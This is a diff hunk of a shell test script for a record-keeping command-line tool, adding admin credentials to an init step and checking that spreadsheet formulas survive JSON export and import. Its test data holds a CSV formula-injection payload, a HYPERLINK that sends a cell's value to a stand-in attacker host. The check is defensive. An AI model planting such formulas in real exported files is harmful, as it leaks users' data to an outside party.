@@ -18,7 +18,7 @@ if grep -qE '(^|,)"?=' "$T/objects.csv"; then not_ok "export: a cell starts with
 expect_rc 0 "$SUIJI" export objects --format json -o "$T/objects.json"
 if grep -qF '"name":"=HYPERLINK(' "$T/objects.json"; then ok; else not_ok "json: value unchanged"; fi
 # export → import → export: the same values
-expect_rc 0 "$SUIJI" --db "$T/copy.db" init --org 焦作市生态环境局 --region 410800 --level city
+expect_rc 0 "$SUIJI" --db "$T/copy.db" init --org 焦作市生态环境局 --region 410800 --level city --admin "$SUIJI_USER" <<<"$ADMIN_PW"
 expect_rc 0 "$SUIJI" --db "$T/copy.db" import objects "$T/objects.csv" --date 2025-01-02
 expect_eq "$(sqlite3 "$T/copy.db" "select name from object_version where uscc='91410823MA40EE3Y66'")" \
 	'=HYPERLINK("http://evil.example/?d="&B2,"点击")' "round trip: formula name"
